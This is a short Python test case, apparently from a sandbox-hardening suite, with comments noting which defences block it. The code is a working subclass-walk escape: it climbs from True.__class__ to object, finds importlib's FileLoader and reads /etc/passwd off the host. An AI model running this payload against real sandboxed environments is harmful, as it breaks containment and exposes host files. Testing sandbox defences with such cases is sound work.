# attack: subclass walk
# stops: restrictedpython: "__class__" is an invalid attribute name
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython => escaped
# True.__class__ to int to object, then importlib's FileLoader.get_data reads any host file
for c in True.__class__.__base__.__base__.__subclasses__():
    if c.__name__ == "FileLoader":
        data = c("x", "/etc/passwd").get_data("/etc/passwd")
        print("ESCAPED", data[:4])
